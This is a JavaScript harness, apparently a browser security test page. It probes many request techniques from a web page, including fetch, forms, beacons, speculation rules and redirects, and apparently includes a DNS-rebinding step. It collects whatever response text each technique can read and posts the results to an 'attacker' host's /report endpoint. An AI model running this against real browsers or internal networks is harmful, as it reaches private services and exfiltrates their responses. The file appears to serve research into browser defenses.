// The ways in which a page can send a request. Each technique gets a URL, and returns what it could read of the response when the
// request has ended. Where the browser does not report the end, it returns at once: the servers see the request.
const firstEvent = (target, ...events) =>
  new Promise(resolve => events.forEach(event => target.addEventListener(event, resolve, { once: true })))
const element = (tag, properties) => Object.assign(document.createElement(tag), properties)
const add = node => document.body.appendChild(node)
const bodyText = async response => (await response).text()
const unreadable = async ended => (await ended, '')
const sendForm = async (method, url) => {
  const frame = add(element('iframe', { name: 'frame' + document.forms.length }))
  add(element('form', { method, action: url, target: frame.name })).submit()
  return frameText(frame)
}
const frameText = async frame => (await firstEvent(frame, 'load'), frame.contentDocument?.body.innerText)

const techniques = {
  'fetch GET cors': url => bodyText(fetch(url)),
  'fetch GET no-cors': url => bodyText(fetch(url, { mode: 'no-cors' })),
  'fetch POST cors': url => bodyText(fetch(url, { method: 'POST', body: 'text' })),
  'fetch POST no-cors': url => bodyText(fetch(url, { method: 'POST', mode: 'no-cors', body: 'text' })),
  'fetch preflight': url => bodyText(fetch(url, {
    method: 'PUT', headers: { 'Content-Type': 'application/json', 'X-Custom': 'yes' }, body: '{}',
  })),
  'XMLHttpRequest': async url => {
    const request = new XMLHttpRequest()
    request.open('GET', url)
    request.send()
    await firstEvent(request, 'loadend')
    return request.responseText
  },
  'form GET': url => sendForm('get', url),
  'form POST': url => sendForm('post', url),
  'image': url => unreadable(firstEvent(element('img', { src: url }), 'load', 'error')),
  'script': url => unreadable(firstEvent(add(element('script', { src: url })), 'load', 'error')),
  'stylesheet': url => unreadable(firstEvent(add(element('link', { rel: 'stylesheet', href: url })), 'load', 'error')),
  'prefetch': url => unreadable(firstEvent(add(element('link', { rel: 'prefetch', href: url })), 'load', 'error')),
  'iframe': url => frameText(add(element('iframe', { src: url }))),
  'WebSocket': url => unreadable(firstEvent(new WebSocket(url.replace(/^http/, 'ws')), 'open', 'close')),
  'EventSource': async url => {
    const source = new EventSource(url)
    await firstEvent(source, 'open', 'error')
    source.close() // otherwise it reconnects
  },
  'beacon': url => { navigator.sendBeacon(url, 'text') },
  'ping': url => add(element('a', { href: '#', ping: url })).click(),
  'window': url => { open(url) },
  'speculative prefetch': url => speculate('prefetch', url),
  'redirected speculative prefetch': url => speculate('prefetch', location.origin + redirectPath(url)),
  'prerender': url => speculate('prerender', url),
  'payment method': url => new PaymentRequest(
    [{ supportedMethods: url }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment().then(() => ''),
  'fetchLater': url => { fetchLater(url, { activateAfter: 0 }) },
  // Whether the browser still sends the page's origin after a redirect by the page's own server.
  'redirected image': url => techniques['image'](redirectURL(url)),
  'redirected form POST': url => techniques['form POST'](redirectURL(url)),
}

const speculate = (action, url) => {
  add(element('script', { type: 'speculationrules', text: JSON.stringify({ [action]: [{ urls: [url], eagerness: 'immediate' }] }) }))
}
const redirectPath = url => '/redirect?to=' + encodeURIComponent(url)
const redirectURL = url => plan.attacker + redirectPath(url)

const runStep = async ({ technique, url }) => {
  const timeout = new Promise(resolve => setTimeout(resolve, 15000, { timedOut: true }))
  const result = (async () => ({ read: await techniques[technique](url) ?? '' }))()
  return Promise.race([result.catch(error => ({ read: '', error: String(error) })), timeout])
}

let plan
(async () => {
  plan = await (await fetch('/plan')).json()
  if (plan.rebind) await fetch('/rebind', { method: 'POST' })
  const results = []
  for (const step of plan.steps) results.push(await runStep(step))
  await fetch(plan.attacker + '/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(results) })
})()
